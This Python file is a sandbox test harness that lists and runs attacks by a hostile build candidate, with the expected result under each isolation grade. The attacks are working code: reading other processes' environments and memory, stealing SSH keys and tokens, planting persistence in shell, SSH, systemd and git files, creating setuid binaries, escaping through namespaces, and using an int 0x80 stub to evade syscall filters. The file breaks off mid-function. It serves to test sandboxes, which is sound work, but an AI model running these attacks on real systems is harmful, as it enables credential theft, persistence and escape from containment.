"""The table of attacks by a hostile candidate, and the program that tries them: `attacks.py WORLD ROUND NAME…`.

Each attack is a function.  It is told where everything is that a cage should keep from it, does its worst, and gives
what it got; an error of the system is raised.  `kit.attacking` makes the world and says what came of it.

    refused    the system answered with an error
    contained  it went well for the attack, and nothing outside was changed or read
    recorded   it worked, and a record says so
    open       it worked; `why` says for what reason that stands"""

# ruff: noqa: ARG001 - all attacks share a signature
import ctypes
import fcntl
import json
import os
import resource
import signal
import socket
import stat
import struct
import sys
import time
from collections.abc import Callable
from contextlib import suppress
from errno import EACCES, ENOSYS, EPERM
from types import SimpleNamespace
from typing import Any, NamedTuple

REFUSED, CONTAINED, RECORDED, OPEN = "refused", "contained", "recorded", "open"
BETTER = (OPEN, RECORDED, CONTAINED, REFUSED)  # the worst first
GRADES = ("plain", "landlock", "isolated", "trusted")
HARM = "it worked"  # given where success alone is harm, wherever it was tried
World = SimpleNamespace
Tried = str | bytes | None
MB = 1 << 20


class Attack(NamedTuple):
    """One attack: what comes of it in each grade, for a user and, behind a slash, for root where that differs.

    `system`: what on some machines refuses it by itself, so that where nothing holds it, less may come of it.
    `alone`: the limit that it runs into, in a command of its own; `twice`: it remembers in a second command;
    `full`: with `network: full`; `coder`: done by who writes code, and may have a sandbox of its own."""

    kind: str
    says: str
    words: dict[str, str]
    attempt: Callable[[World], Tried]
    why: str
    system: str
    alone: str
    twice: bool
    full: bool
    coder: bool

    def word(self, grade: str, is_root: bool) -> str:
        return self.both(grade)[-1 if is_root else 0]

    def both(self, grade: str) -> list[str]:
        return self.words[grade].split("/")


ATTACKS: dict[str, Attack] = {}


def attack(
    kind: str,
    says: str,
    words: str,
    why: str = "",
    *,
    system: str = "",
    alone: str = "",
    twice: bool = False,
    full: bool = False,
    coder: bool = False,
) -> Callable[[Callable[[World], Tried]], Callable[[World], Tried]]:
    """Add a row to the table; `words` are for plain, landlock, isolated, and for trusted where it is not the same."""
    found = words.split()
    by_grade = dict(zip(GRADES, [*found, found[-1]][:4], strict=True))

    def add(attempt: Callable[[World], Tried]) -> Callable[[World], Tried]:
        name = attempt.__name__
        ATTACKS[name] = Attack(kind, says, by_grade, attempt, why, system, alone, twice, full, coder)
        return attempt

    return add


# --- Means.

_LIBC = ctypes.CDLL(None, use_errno=True)


def call(number: int, *words: Any) -> int:
    """A system call by its number on x86-64."""
    plain = [ctypes.c_long(each) if isinstance(each, int) else each for each in words]
    found = _LIBC.syscall(ctypes.c_long(number), *plain)
    if found < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return int(found)


def reach(number: int, *words: Any) -> Tried:
    """Harm if the kernel took the call, though its arguments make no sense."""
    try:
        call(number, *words)
    except OSError as error:
        if error.errno in (EPERM, EACCES, ENOSYS):
            raise
    return HARM


def read(path: str, size: int = 1 << 16) -> bytes:
    with open(path, "rb", buffering=0) as file:
        return file.read(size)


def append(path: str, text: str = "hostile\n") -> None:
    with open(path, "a", encoding="utf-8") as file:
        file.write(text)


def own(w: World) -> str:
    """The file outside that is this attack's to spoil."""
    return f"{w.outside}/{w.name}/file"


def victim(w: World) -> int:
    """A process of the same user, this attack's to spoil, with a key in its environment."""
    return int(w.victims[w.name])


# --- Keys.


@attack("keys", "reads the environment of the coordinator in /proc", "refused refused refused")
def coordinator_environ(w: World) -> Tried:
    return read(f"/proc/{w.coordinator}/environ")


@attack("keys", "reads the memory of the coordinator", "refused refused refused")
def coordinator_memory(w: World) -> Tried:
    with open(f"/proc/{w.coordinator}/mem", "rb", buffering=0) as file:
        file.seek(w.coordinator_environ)
        return file.read(4096)


@attack("keys", "opens the files that the coordinator has open", "refused refused refused")
def coordinator_files(w: World) -> Tried:
    return read(f"/proc/{w.coordinator}/fd/{w.coordinator_file}")


@attack("keys", "reads the environment of the guard", "contained/refused refused refused")
def guard_environ(w: World) -> Tried:
    return read(f"/proc/{w.guard}/environ")


@attack("keys", "reads the environment of another command of the build", "open refused refused")
def sibling_environ(w: World) -> Tried:
    return read(f"/proc/{w.sibling}/environ")


@attack("keys", "reads the environment of another process of the user", "open/refused refused refused")
def bystander_environ(w: World) -> Tried:
    return read(f"/proc/{victim(w)}/environ")


@attack("keys", "reads the memory of another process in /proc", "open/refused refused refused", system="Yama")
def bystander_memory(w: World) -> Tried:
    with open(f"/proc/{victim(w)}/mem", "rb", buffering=0) as file:
        file.seek(w.environs[w.name])
        return file.read(4096)


@attack(
    "keys", "reads the memory of another process by process_vm_readv", "open/refused refused refused", system="Yama"
)
def process_vm_readv(w: World) -> Tried:
    here = ctypes.create_string_buffer(4096)
    local = struct.pack("QQ", ctypes.addressof(here), 4096)
    remote = struct.pack("QQ", w.environs[w.name], 1024)
    call(310, victim(w), local, 1, remote, 1, 0)
    return here.raw


@attack("keys", "opens a file that another process has open", "open/refused refused refused")
def bystander_files(w: World) -> Tried:
    return read(f"/proc/{victim(w)}/fd/0")


@attack("keys", "takes an open file from another process by pidfd_getfd", "open/refused refused refused", system="Yama")
def pidfd_getfd(w: World) -> Tried:
    fd = call(438, os.pidfd_open(victim(w)), 0, 0)
    return os.pread(fd, 4096, 0)


@attack("keys", "attaches to another process by ptrace", "open/refused refused refused", system="Yama")
def ptrace(w: World) -> Tried:
    return reach(101, 0x4206, victim(w), 0, 0)


@attack(
    "keys",
    "reads the command lines of other processes",
    "open open refused",
    "Landlock hides no command line; keys do not belong there",
)
def command_lines(w: World) -> Tried:
    return read(f"/proc/{victim(w)}/cmdline")


@attack("keys", "looks for keys in its own environment", "contained contained contained")
def own_environ(w: World) -> Tried:
    return read("/proc/self/environ") + repr(os.environ).encode()


@attack("keys", "looks for files that were left open for it", "contained contained contained")
def inherited_files(w: World) -> Tried:
    return HARM if w.inherited else None


@attack("keys", "dumps its own core, or has others dump theirs", "open refused refused", system="limits of the user")
def core_dump(w: World) -> Tried:
    if resource.getrlimit(resource.RLIMIT_CORE)[1] == 0:
        raise PermissionError(EPERM, "no core files")
    return HARM


# --- Files: writing outside.


@attack("writing", "writes a new file outside", "open refused refused")
def new_file(w: World) -> Tried:
    append(f"{own(w)}.new")


@attack("writing", "writes to a file outside", "open refused refused")
def write_file(w: World) -> Tried:
    append(own(w))


@attack("writing", "truncates a file by its path", "open refused refused")
def truncate_file(w: World) -> Tried:
    os.truncate(own(w), 0)


@attack("writing", "removes a file outside", "open refused refused")
def remove_file(w: World) -> Tried:
    os.remove(own(w))


@attack("writing", "moves a file of its own over one outside", "open refused refused")
def rename_over(w: World) -> Tried:
    append("mine")
    os.rename("mine", own(w))


@attack("writing", "moves a file outside into its checkout", "open refused refused")
def rename_away(w: World) -> Tried:
    os.rename(own(w), "taken")


@attack("writing", "links a file outside into its checkout and writes to the link", "open refused refused")
def hard_link(w: World) -> Tried:
    os.link(own(w), "linked")
    append("linked")


@attack("writing", "writes through a symbolic link", "open refused refused")
def symbolic_link(w: World) -> Tried:
    os.symlink(own(w), "symbolic")
    append("symbolic")


@attack("writing", "writes through a link that is swapped in while a name is looked up", "open refused refused")
def link_race(w: World) -> Tried:
    os.makedirs("race/a")
    append("race/a/file")
    for _ in range(50):
        os.rename("race/a", "race/b")
        os.symlink(os.path.dirname(own(w)), "race/a")
        append("race/a/file")
        os.remove("race/a")
        os.rename("race/b", "race/a")


@attack("writing", "makes a folder outside", "open refused refused")
def make_folder(w: World) -> Tried:
    os.mkdir(f"{own(w)}.d")


@attack("writing", "makes a pipe or a socket outside", "open refused refused")
def make_pipe(w: World) -> Tried:
    os.mkfifo(f"{own(w)}.pipe")


_UNRESTRICTED = "Landlock does not restrict it; what it shuts is found and named at the next start"


@attack("writing", "changes the mode of a file outside", "open open refused", _UNRESTRICTED)
def change_mode(w: World) -> Tried:
    os.chmod(own(w), 0)


@attack("writing", "changes the times of a file outside", "open open refused", _UNRESTRICTED)
def change_times(w: World) -> Tried:
    os.utime(own(w), (0, 0))


@attack("writing", "gives a file outside attributes", "open open refused", _UNRESTRICTED, system="the file system")
def change_attributes(w: World) -> Tried:
    os.setxattr(own(w), "user.hostile", b"x")


@attack("writing", "goes out by /proc/self/root", "open refused refused")
def by_own_root(w: World) -> Tried:
    append(f"/proc/self/root{own(w)}")


@attack("writing", "goes out by /proc/1/root", "refused refused refused")
def by_first_root(w: World) -> Tried:
    append(f"/proc/1/root{own(w)}")


@attack("writing", "goes out by the root of the coordinator", "refused refused refused")
def by_coordinators_root(w: World) -> Tried:
    append(f"/proc/{w.coordinator}/root{own(w)}")


@attack("writing", "goes out by the working folder of another process", "open/refused refused refused")
def by_working_folder(w: World) -> Tried:
    append(f"/proc/{victim(w)}/cwd/{w.name}/file")


@attack("writing", "goes up from an open folder", "open refused refused")
def by_open_folder(w: World) -> Tried:
    fd = os.open(".", os.O_RDONLY)
    os.close(os.open(os.path.relpath(own(w)), os.O_WRONLY | os.O_TRUNC, dir_fd=fd))


@attack("writing", "opens a file outside by its handle", "refused refused refused")
def by_handle(w: World) -> Tried:
    handle = bytes.fromhex(w.handle)
    fd = call(304, os.open(".", os.O_RDONLY), handle, os.O_RDONLY)
    return os.read(fd, 4096)


@attack("writing", "puts a folder of its own in the place of its checkout", "open refused refused")
def replace_checkout(w: World) -> Tried:
    spare = f"{w.checkout}.old"
    os.rename(w.checkout, spare)
    os.rename(spare, w.checkout)
    return HARM


@attack("writing", "mounts a folder of its own over one outside", "refused refused refused")
def mount_over(w: World) -> Tried:
    call(165, b".\0", os.path.dirname(own(w)).encode(), None, 4096, None)
    call(166, os.path.dirname(own(w)).encode(), 2)
    return HARM


@attack("writing", "changes its root", "refused/open refused refused")
def change_root(w: World) -> Tried:
    os.chroot(".")
    return HARM


@attack("writing", "changes data that it may read", "open refused refused")
def write_data(w: World) -> Tried:
    append(f"{w.data}/prices")


@attack("writing", "opens a file of the system for writing", "refused/open refused refused")
def write_system(w: World) -> Tried:
    with open("/etc/hosts", "r+b", buffering=0):
        return HARM


@attack("writing", "opens a file of Coppice for writing", "refused/open refused refused")
def write_package(w: World) -> Tried:
    with open(w.package, "r+b", buffering=0):
        return HARM


@attack("writing", "opens a setting of the kernel for writing", "refused/open refused refused")
def write_setting(w: World) -> Tried:
    with open("/proc/sys/kernel/core_pattern", "r+b", buffering=0):
        return HARM


@attack("writing", "holds the lock of the run's repository, so that the coordinator waits", "open refused refused")
def hold_lock(w: World) -> Tried:
    with open(f"{w.base}/project/runs/x/repo.git/coppice.lock", "rb") as file:
        fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
    return HARM


@attack("writing", "leaves a program among its outputs that runs as whoever built", "open refused refused")
def leave_setuid(w: World) -> Tried:
    os.close(os.open(f"{w.output}/program", os.O_CREAT | os.O_WRONLY, 0o755))
    for make in (
        lambda: os.chmod(f"{w.output}/program", 0o4755),
        lambda: call(2, f"{w.output}/other".encode(), os.O_CREAT | os.O_WRONLY, 0o4755),
        lambda: call(85, f"{w.output}/third".encode(), 0o4755),
        lambda: call(259, -100, f"{w.output}/fourth".encode(), stat.S_IFREG | 0o4755, 0),
        lambda: call(452, -100, f"{w.output}/program".encode(), 0o4755, 0),
        lambda: call(437, -100, f"{w.output}/fifth".encode(), struct.pack("QQQ", os.O_CREAT, 0o4755, 0), 24),
    ):
        with suppress(OSError):
            make()
    if not any(os.stat(each).st_mode & stat.S_ISUID for each in os.scandir(w.output)):
        raise PermissionError(EPERM, "no way to make one")


@attack(
    "writing",
    "changes the mode of a device that all use",
    "refused/open refused/open refused/open",
    "root owns the devices, which bubblewrap lends as they are: build as an ordinary user",
)
def change_device(w: World) -> Tried:
    os.chmod("/dev/full", 0o666)  # as it is
    return HARM


@attack(
    "writing",
    "changes the mode of a file of /proc that all read",
    "refused/open refused/open refused",
    _UNRESTRICTED,
)
def change_proc(w: World) -> Tried:
    os.chmod("/proc/uptime", 0o444)  # as it is
    return HARM


@attack(
    "writing",
    "has a program of the system run as root, whoever starts it",
    "refused/open refused refused",
)
def setuid_system(w: World) -> Tried:
    os.chmod(w.root_program, 0o4755)
    return HARM


# --- Files that run later.


def place(title: str, path: str, name: str, words: str = "open refused refused") -> None:
    """A row for a file that somebody runs or believes later."""

    def attempt(w: World) -> Tried:
        append(f"{w.base}/{path}")

    attempt.__name__, attempt.path = name, path  # type: ignore[attr-defined]
    attack("later", f"writes to {title}", words)(attempt)


place("`~/.bashrc`", "home/.bashrc", "home_bashrc", "open refused contained")
place("`~/.ssh/authorized_keys`", "home/.ssh/authorized_keys", "home_authorized_keys")
place("a new file of `~/.config/systemd/user`", "home/.config/systemd/user/x.service", "home_service")
place("a `.pth` of a venv beside the project", "venv/lib/python3/site-packages/x.pth", "venv_pth")
place("a program of a venv beside the project", "venv/bin/tool", "venv_program")
place("a hook of the user's repository", "project/.git/hooks/pre-commit", "git_hook")
place("the settings of the user's repository", "project/.git/config", "git_config")
place("the spec", "project/specs/x.yaml", "spec_file")
place("the project's `dodo.py`", "project/dodo.py", "project_dodo")
place("results of the baseline", "project/runs/x/artifacts/d0.n0.csv", "baseline_results")
place("an entry of the store", "project/runs/.store/aa/entry", "store_entry")
place("the repository of the run", "project/runs/x/repo.git/config", "repo_config")
place("the lock of that repository", "project/runs/x/repo.git/coppice.lock", "repo_lock")
place("the checkout of another candidate", "checkouts/other/model.py", "other_checkout")
place("its own log", "project/runs/x/eval/sweep.log", "own_log")


# --- Files: reading.


def secret(title: str, path: str, name: str) -> None:
    """A row for a file that a candidate has no business in."""

    def attempt(w: World) -> Tried:
        return read(f"{w.base}/{path}")

    attempt.__name__ = name
    attack("reading", f"reads {title}", "open refused refused")(attempt)


secret("`~/.ssh`", "home/.ssh/id", "home_key")
secret("`~/.netrc`", "home/.netrc", "home_netrc")
secret("the project's `.env`", "project/.env", "project_env")
secret("the token in `.git/config`", "project/.git/config", "git_token")
secret("results of others in `runs/`", "project/runs/x/eval/secret", "other_results")
secret("answers of models", "project/runs/x/calls/secret", "model_calls")
secret("the store", "project/runs/.store/aa/entry", "store_read")
secret("the checkout of another candidate", "checkouts/other/secret", "other_code")


@attack("reading", "reads what is sealed in a folder that it may read", "open refused refused")
def sealed_data(w: World) -> Tried:
    return read(f"{w.data}/sealed/truth")


@attack("reading", "reads it by a link", "open refused refused")
def sealed_by_link(w: World) -> Tried:
    os.symlink(f"{w.data}/sealed", "sealed")
    return read("sealed/truth")


@attack("reading", "reads it by a path with `..` in it", "open refused refused")
def sealed_by_parent(w: World) -> Tried:
    return read(f"{w.data}/open/../sealed/truth")


@attack("reading", "reads it by /proc/self/root", "open refused refused")
def secret_by_root(w: World) -> Tried:
    return read(f"/proc/self/root{w.base}/home/.ssh/id")


@attack("reading", "reads /etc/shadow", "refused/open refused refused")
def shadow(w: World) -> Tried:
    with open("/etc/shadow", "rb", buffering=0) as file:
        return HARM if os.fstat(file.fileno()).st_size else None


@attack("reading", "reads what in /etc is not for everybody, however deep", "refused/open refused refused")
def deep_in_etc(w: World) -> Tried:
    found = 0
    for folder, _, names in os.walk("/etc"):
        for name in names:
            path = f"{folder}/{name}"
            with suppress(OSError):
                status = os.lstat(path)
                if not stat.S_ISREG(status.st_mode) or status.st_mode & 0o004 or not status.st_size:
                    continue
                with open(path, "rb"):
                    found += 1
    if not found:
        raise PermissionError(EACCES, "nothing to be read")
    return HARM


@attack("reading", "reads the disk itself", "refused refused refused")
def raw_disk(w: World) -> Tried:
    return HARM if os.read(os.open(w.disk, os.O_RDONLY), 16) else None


@attack("reading", "reads the memory of the kernel", "refused refused refused")
def kernel_memory(w: World) -> Tried:
    return HARM if read("/proc/kcore", 16) else None


@attack("reading", "reads messages of the kernel", "open refused refused", system="dmesg_restrict")
def kernel_messages(w: World) -> Tried:
    return HARM if call(103, 10, None, 0) >= 0 else None


@attack("reading", "has a setuid program read for it", "open refused refused", system="who runs the tests")
def setuid_program(w: World) -> Tried:
    source, sink = os.pipe()
    if pid := os.fork():
        os.close(sink)
        found = os.read(source, 4096)
        os.waitpid(pid, 0)
        if not found:
            raise PermissionError(EACCES, "it printed nothing")
        return found
    os.dup2(sink, 1)
    with suppress(OSError):
        os.execv(f"{w.data}/setuid-cat", ["cat", f"{w.base}/root-only"])
    os._exit(1)


# --- Processes.


@attack("processes", "kills another process of the user", "open refused refused")
def kill_process(w: World) -> Tried:
    os.kill(victim(w), signal.SIGKILL)


@attack("processes", "stops another process of the user", "open refused refused")
def stop_process(w: World) -> Tried:
    os.kill(victim(w), signal.SIGSTOP)


@attack("processes", "sends a signal by a pidfd", "open refused refused")
def pidfd_signal(w: World) -> Tried:
    signal.pidfd_send_signal(os.pidfd_open(victim(w)), signal.SIGKILL)


@attack("processes", "sends the coordinator a signal", "open refused refused")
def signal_coordinator(w: World) -> Tried:
    os.kill(w.coordinator, signal.SIGUSR1)


@attack("processes", "can send the guard a signal", "open refused refused")
def signal_guard(w: World) -> Tried:
    os.kill(w.guard, 0)
    return HARM


@attack("processes", "limits the coordinator's memory or CPU, so that it dies", "open refused refused")
def limit_coordinator(w: World) -> Tried:
    resource.prlimit(victim(w), resource.RLIMIT_FSIZE, (0, 0))


@attack(
    "processes",
    "slows another process down by its priority",
    "open open/refused refused",
    "Landlock does not restrict priorities; they cost time alone",
)
def slow_process(w: World) -> Tried:
    os.setpriority(os.PRIO_PROCESS, victim(w), 19)


@attack(
    "processes",
    "binds another process to one processor",
    "open open/refused refused",
    "Landlock does not restrict it; it costs time alone",
)
def bind_process(w: World) -> Tried:
    os.sched_setaffinity(victim(w), {min(os.sched_getaffinity(victim(w)))})


@attack("processes", "has another process be the first to go when memory is short", "open refused refused")
def sacrifice_process(w: World) -> Tried:
    with open(f"/proc/{victim(w)}/oom_score_adj", "w", encoding="ascii") as file:
        file.write("1000")


@attack("processes", "moves another process into its own control group", "refused/open refused refused")
def move_process(w: World) -> Tried:
    moved = 0
    for line in read("/proc/self/cgroup").decode().splitlines():
        _, kind, path = line.split(":", 2)
        for at in (f"/sys/fs/cgroup/{kind}", "/sys/fs/cgroup", "/sys/fs/cgroup/unified"):
            with suppress(OSError), open(f"{at}{path}/cgroup.procs", "w", encoding="ascii") as file:
                file.write(str(victim(w)))
                moved += 1
    if not moved:
        raise PermissionError(EACCES, "no group could be joined")
    return HARM


def _leave_daemon(seconds: str) -> None:
    """Start a process that has left its session, its parents and its environment."""
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        null = os.open("/dev/null", os.O_RDWR)
        for fd in range(3):
            os.dup2(null, fd)
        os.closerange(3, 256)
        os.execve(sys.executable, [sys.executable, "-ISc", f"import time; time.sleep({seconds})"], {})
    os.wait()


@attack(
    "processes",
    "leaves a daemon with an empty environment beside other commands",
    "open open contained",
    "without control groups it is found when no other command runs; it ends with the build at the latest",
    system="control groups, where they are",
)
def daemon_beside(w: World) -> Tried:
    _leave_daemon(f"{w.token}.1")


@attack("processes", "leaves a daemon with an empty environment", "contained contained contained", alone="-")
def daemon(w: World) -> Tried:
    _leave_daemon(f"{w.token}.2")


@attack("processes", "leaves a group of daemons that start each other anew", "contained contained contained", alone="-")
def reviving_daemons(w: World) -> Tried:
    for _ in range(5):
        _leave_daemon(f"{w.token}.3")


# --- Network.


def _ask(kind: int, family: int, where: Any) -> bytes:
    with socket.socket(family, kind) as asking:
        asking.settimeout(2)
        asking.connect(where)
        if kind == socket.SOCK_DGRAM:
            asking.send(b"?")
        return asking.recv(4096)


@attack("network", "asks a service of this machine by TCP", "open refused refused")
def tcp_service(w: World) -> Tried:
    return _ask(socket.SOCK_STREAM, socket.AF_INET, ("127.0.0.1", w.tcp))


@attack("network", "asks one by UDP, as one asks for names", "open refused refused")
def udp_service(w: World) -> Tried:
    return _ask(socket.SOCK_DGRAM, socket.AF_INET, ("127.0.0.1", w.udp))


@attack("network", "asks one by IPv6", "open refused refused", system="IPv6")
def tcp6_service(w: World) -> Tried:
    return _ask(socket.SOCK_STREAM, socket.AF_INET6, ("::1", w.tcp6))


@attack("network", "asks an agent for keys by a socket in a folder", "open refused refused")
def path_socket(w: World) -> Tried:
    return _ask(socket.SOCK_STREAM, socket.AF_UNIX, f"{w.base}/agent")


@attack("network", "asks a service by an abstract socket", "open refused refused")
def abstract_socket(w: World) -> Tried:
    return _ask(socket.SOCK_STREAM, socket.AF_UNIX, f"\0{w.token}")


_FULL = "`network: full` is the network of the machine"


@attack("network", "asks a service of this machine, with `network: full`", "open open open", _FULL, full=True)
def tcp_service_full(w: World) -> Tried:
    return tcp_service(w)


@attack("network", "asks one by an abstract socket, with `network: full`", "open refused open", _FULL, full=True)
def abstract_socket_full(w: World) -> Tried:
    return abstract_socket(w)


@attack("network", "asks an agent by a socket in a folder, with `network: full`", "open refused refused", full=True)
def path_socket_full(w: World) -> Tried:
    return path_socket(w)


@attack("network", "has an open file sent to it by an abstract socket", "open refused refused")
def passed_file(w: World) -> Tried:
    with socket.socket(socket.AF_UNIX) as asking:
        asking.connect(f"\0{w.token}.file")
        _, fds, _, _ = socket.recv_fds(asking, 16, 1)
        return os.pread(fds[0], 4096, 0)


@attack("network", "finds a way to other machines", "open refused refused", system="who has no network")
def route_out(w: World) -> Tried:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.connect(("192.0.2.1", 53))  # sends nothing
    return HARM


@attack("network", "looks at all connections of this machine", "open refused refused", system="the kernel's modules")
def netlink(w: World) -> Tried:
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 4) as asking:
        asking.bind((0, 0))
    return HARM


@attack("network", "opens a raw socket", "refused/open refused refused")
def raw_socket(w: World) -> Tried:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP):
        return HARM


@attack("network", "listens to all packets", "refused/open refused refused")
def packet_socket(w: World) -> Tried:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW):
        return HARM


@attack("network", "opens a socket to the machine around a virtual one", "open refused refused", system="the kernel")
def vsock(w: World) -> Tried:
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM):
        return HARM


@attack("network", "opens a socket of the kernel's ciphers", "open refused refused", system="the kernel")
def cipher_socket(w: World) -> Tried:
    with socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET):
        return HARM


@attack("network", "opens a Bluetooth socket", "open refused refused", system="the kernel")
def bluetooth(w: World) -> Tried:
    with socket.socket(31, socket.SOCK_RAW, 1):
        return HARM


@attack("network", "writes to the user's terminal", "open refused refused")
def terminal(w: World) -> Tried:
    with open(w.terminal, "w", encoding="ascii") as file:
        file.write(w.token)


@attack("network", "types into the user's terminal", "refused refused refused", system="legacy_tiocsti")
def type_into_terminal(w: World) -> Tried:
    fd = os.open(w.terminal, os.O_RDWR | os.O_NOCTTY)
    fcntl.ioctl(fd, 0x5412, b"x")
    return HARM


# --- Memory that outlives a command: in a second one, it is looked for.


def _remember_in_file(w: World, path: str) -> Tried:
    if w.round == 2:
        return HARM if os.path.exists(path) else None
    append(path)
    return None


@attack("memory", "remembers in /dev/shm what an earlier command did", "open refused contained", twice=True)
def memory_shm(w: World) -> Tried:
    return _remember_in_file(w, f"/dev/shm/{w.token}")


@attack("memory", "remembers in /tmp", "open refused contained", twice=True)
def memory_tmp(w: World) -> Tried:
    return _remember_in_file(w, f"/tmp/{w.token}")


@attack("memory", "remembers in /var/tmp", "open refused contained", twice=True)
def memory_var_tmp(w: World) -> Tried:
    return _remember_in_file(w, f"/var/tmp/{w.token}")


@attack("memory", "remembers in HOME", "open contained contained", twice=True)
def memory_home(w: World) -> Tried:
    return _remember_in_file(w, os.path.expanduser(f"~/.cache-{w.token}"))


@attack("memory", "remembers in shared memory of System V", "open refused contained", twice=True)
def memory_sysv(w: World) -> Tried:
    size, flags = (4096, 0o1600) if w.round == 1 else (0, 0)
    call(29, w.ipc_key, size, flags)
    return HARM if w.round == 2 else None


@attack("memory", "remembers in messages of System V", "open refused contained", twice=True)
def memory_messages(w: World) -> Tried:
    call(68, w.ipc_key, 0o1600 if w.round == 1 else 0)
    return HARM if w.round == 2 else None


@attack("memory", "remembers in semaphores of System V", "open refused contained", twice=True)
def memory_semaphores(w: World) -> Tried:
    call(64, w.ipc_key, 1 if w.round == 1 else 0, 0o1600 if w.round == 1 else 0)
    return HARM if w.round == 2 else None


@attack("memory", "remembers in a message queue of POSIX", "open refused contained", twice=True)
def memory_queue(w: World) -> Tried:
    call(240, w.token.encode() + b"\0", os.O_RDWR | (os.O_CREAT if w.round == 1 else 0), 0o600, None)
    return HARM if w.round == 2 else None


@attack("memory", "remembers in the kernel's keys", "open refused refused", twice=True, system="the kernel")
def memory_keys(w: World) -> Tried:
    if w.round == 1:
        call(248, b"user\0", w.token.encode() + b"\0", b"x", 1, -4)
        return None
    call(250, 10, -4, b"user\0", w.token.encode() + b"\0", 0)
    return HARM


_PAGES = 64
_NO_WAIT = 8  # read what is in memory, else EAGAIN


@attack(
    "memory",
    "remembers by which pages of a file that all may read are in memory",
    "open open open",
    "whoever can read a file can tell; a bit a page, and other readers blur it",
    twice=True,
    system="the file system",
)
def memory_pages(w: World) -> Tried:
    fd = os.open(f"{w.data}/pages", os.O_RDONLY)
    os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_RANDOM)
    marked = range(1, _PAGES, 7)
    if w.round == 1:
        os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)
        for page in marked:
            os.pread(fd, 1, page * 4096)
        return None
    found = []
    for page in range(_PAGES):
        with suppress(BlockingIOError):
            os.preadv(fd, [bytearray(1)], page * 4096, _NO_WAIT)
            found.append(page)
    return HARM if found == [*marked] else None


# --- The kernel: calls that no search needs.


@attack("kernel", "sets up io_uring", "open refused refused", system="io_uring_disabled")
def io_uring(w: World) -> Tried:
    return reach(425, 1, ctypes.create_string_buffer(120))


@attack("kernel", "loads a program of BPF", "open refused refused", system="unprivileged_bpf_disabled")
def bpf(w: World) -> Tried:
    return reach(321, 0, ctypes.create_string_buffer(struct.pack("IIII", 2, 4, 4, 1), 72), 72)


@attack("kernel", "handles page faults by userfaultfd", "open refused refused", system="unprivileged_userfaultfd")
def userfaultfd(w: World) -> Tried:
    return reach(323, 0)


@attack("kernel", "counts events of the machine by perf", "open refused refused", system="perf_event_paranoid")
def perf_events(w: World) -> Tried:
    return reach(298, ctypes.create_string_buffer(struct.pack("II", 1, 112), 112), -1, 0, -1, 0)


@attack("kernel", "changes its segment table", "open refused refused", system="the kernel")
def modify_ldt(w: World) -> Tried:
    return reach(154, 0, ctypes.create_string_buffer(16), 16)


@attack("kernel", "makes a namespace of users by unshare", "open refused refused", system="who forbids namespaces")
def unshare(w: World) -> Tried:
    return reach(272, 0x10000000)


@attack(
    "kernel",
    "makes one as a coder",
    "open refused open",
    "coders may have a sandbox of their own, which is made of namespaces",
    system="who forbids namespaces",
    coder=True,
)
def unshare_coder(w: World) -> Tried:
    return unshare(w)


@attack(
    "kernel",
    "uncovers, as root of such a namespace, settings of the kernel",
    "refused/open refused refused",
    coder=True,
)
def uncover_settings(w: World) -> Tried:
    user = os.getuid()
    with suppress(OSError):
        call(272, 0x10020000)
        append("/proc/self/uid_map", f"0 {user} 1")
    os.makedirs("proc", exist_ok=True)
    for number, words in (
        (165, (b"proc\0", b"proc\0", b"proc\0", 0, None)),
        (165, (None, b"/proc/sys\0", None, 0x1020, None)),  # MS_REMOUNT | MS_BIND
        (165, (None, b"/proc\0", None, 0x1020, None)),
        (166, (b"/proc/sys\0", 2)),
    ):
        with suppress(OSError):
            call(number, *words)
    for path in ("/proc/sys/kernel/core_pattern", "proc/sys/kernel/core_pattern"):
        with suppress(OSError), open(path, "r+b", buffering=0):
            return HARM
    raise PermissionError(EPERM, "they stay covered")


@attack("kernel", "makes one by clone", "open refused refused", system="who forbids namespaces")
def clone(w: World) -> Tried:
    if call(56, 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0) == 0:
        os._exit(0)
    return HARM


@attack("kernel", "makes one by clone3", "open refused refused", system="who forbids namespaces")
def clone3(w: World) -> Tried:
    words = struct.pack("QQQQQQQQ", 0x10000000, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)
    if call(435, ctypes.create_string_buffer(words, 64), 64) == 0:
        os._exit(0)
    return HARM


@attack("kernel", "opens a tree of mounts", "refused refused refused")
def open_tree(w: World) -> Tried:
    return reach(428, -100, b"/\0", 1)


@attack("kernel", "goes into a namespace of another process", "refused refused refused")
def setns(w: World) -> Tried:
    return reach(308, os.open(f"/proc/{victim(w)}/ns/uts", os.O_RDONLY), 0)


@attack("kernel", "loads a module of the kernel", "refused refused refused")
def kernel_module(w: World) -> Tried:
    return reach(175, None, 0, None)


@attack("kernel", "starts another kernel", "refused refused refused")
def kexec(w: World) -> Tried:
    return reach(246, 0, 0, None, 1 << 30)


@attack("kernel", "takes ports of the processor", "refused refused refused", system="the kernel")
def ports(w: World) -> Tried:
    return reach(172, 3)


@attack("kernel", "watches files of all by fanotify", "open refused refused", system="the kernel")
def fanotify(w: World) -> Tried:
    return reach(300, 0x200, 0)


@attack("kernel", "calls by the numbers of x32", "open refused refused", system="the kernel")
def x32_numbers(w: World) -> Tried:
    return reach(0x40000000 | 39)


@attack("kernel", "opens a socket by the numbers of 32 bits", "open refused refused", system="the kernel")
def old_numbers(w: World) -> Tried:
    """A socket by `int 0x80`, which counts calls otherwise: a filter that looks at numbers alone lets it pass."""
    found = int80(359, socket.AF_NETLINK, socket.SOCK_RAW, 4)
    if found < 0:
        raise OSError(-found, os.strerror(-found))
    return HARM


def int80(number: int, *words: int) -> int:
    import mmap

    code = b"\x53\xb8" + struct.pack("<I", number) + b"\xbb" + struct.pack("<I", words[0])
    code += b"\xb9" + struct.pack("<I", words[1]) + b"\xba" + struct.pack("<I", words[2]) + b"\xcd\x80\x5b\xc3"
